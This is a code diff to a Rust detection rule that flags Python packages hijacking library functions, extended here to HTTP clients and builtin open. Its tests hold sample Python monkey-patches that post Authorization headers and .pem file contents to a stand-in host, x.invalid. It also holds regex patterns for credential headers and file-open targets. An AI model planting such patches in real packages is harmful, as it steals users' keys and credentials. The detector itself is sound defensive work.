@@ -14,7 +14,7 @@ use crate::walker::Checker;
 pub const RULE: Rule = Rule {
     id: "WH260",
     name: "api-hijack",
-    description: "Replaces an imported library's key, wallet, seed or password function with a function of its own that sends data over the network",
+    description: "Replaces an imported library's key, wallet, seed or password function, an HTTP client's send, or the builtin open with a function of its own that sends data over the network",
     rationale: "Wallet stealers of 2024–2025 (Solana and Ethereum helper packages) leave the \
                 victim's code alone and patch the library it calls: `Keypair.from_bytes`, \
                 `Account.create`, `getpass.getpass` now also send the key they see. Nothing \
@@ -36,6 +36,12 @@ static HTTP_CLIENT_SEND: LazyLock<Regex> = crate::static_regex!(
     r"(?i)^(requests(\.sessions)?\.Session\.(send|request)|requests\.(api\.)?request|httpx\.(Client|AsyncClient)\.(send|request)|urllib\.request\.(urlopen|OpenerDirector\.open)|http\.client\.HTTPS?Connection\.(request|putheader)|aiohttp\.ClientSession\._request)$"
 );
 
+/// The functions every file read goes through (`builtins.open`, `io.open`, `Path.read_text`):
+/// a replacement that sends sees every secret file the program opens.
+static FILE_OPEN: LazyLock<Regex> = crate::static_regex!(
+    r"^(open|builtins\.open|io\.open|os\.open|pathlib\.Path\.(open|read_text|read_bytes))$"
+);
+
 /// The credentials a request carries, as a replacement reads them from it.
 static CREDENTIAL_HEADER: LazyLock<Regex> = crate::static_regex!(
     r#"(?i)["'](authorization|proxy-authorization|cookie|x-api-key|x-auth-token)["']"#
@@ -48,6 +54,8 @@ pub enum Handles {
     KeyMaterial,
     /// Every request an HTTP client sends ([`HTTP_CLIENT_SEND`]), and the credentials in it.
     Requests,
+    /// Every file the program opens ([`FILE_OPEN`]).
+    Files,
 }
 
 /// A replacement noted while walking, judged once the module's findings are in.
@@ -101,6 +109,8 @@ fn hijacked_target(checker: &Checker, owner: &Expr, attribute: &str) -> Option<(
     let target = format!("{owner}.{attribute}");
     if HTTP_CLIENT_SEND.is_match(&target) {
         Some((target, Handles::Requests))
+    } else if FILE_OPEN.is_match(&target) {
+        Some((target, Handles::Files))
     } else if KEY_MATERIAL.is_match(&target) {
         Some((target, Handles::KeyMaterial))
     } else {
@@ -200,6 +210,7 @@ pub fn check_pending(checker: &mut Checker) {
                 match patch.handles {
                     Handles::KeyMaterial => "key or password the library handles",
                     Handles::Requests => "credential header the client sends",
+                    Handles::Files => "file the program opens",
                 }
             ),
             severity,
@@ -226,6 +237,11 @@ mod tests {
         assert!(max_severity("p/pkg/__init__.py", getpass, "WH260") >= 0.9);
         let headers = "import requests\n_orig = requests.Session.send\ndef _send(self, request, **kw):\n    auth = request.headers.get('Authorization')\n    if auth:\n        requests.post('https://x.invalid/h', data={'u': request.url, 'a': auth})\n    return _orig(self, request, **kw)\nrequests.Session.send = _send\n";
         assert!(max_severity("p/pkg/__init__.py", headers, "WH260") >= 0.9);
+        let opener = "import builtins, requests\n_real = builtins.open\ndef _open(f, mode='r', *a, **k):\n    h = _real(f, mode, *a, **k)\n    if str(f).endswith('.pem'):\n        requests.post('https://x.invalid/o', data=_real(f, 'rb').read())\n    return h\nbuiltins.open = _open\n";
+        assert!(max_severity("p/pkg/__init__.py", opener, "WH260") >= 0.9);
+        // A fake file system for tests patches open and sends nothing.
+        let fake = "import builtins, io\n_files = {}\ndef _open(f, mode='r', *a, **k):\n    return io.StringIO(_files.get(f, ''))\nbuiltins.open = _open\n";
+        assert!(max_severity("p/pkg/__init__.py", fake, "WH260") < 0.1);
     }
 
     #[test]
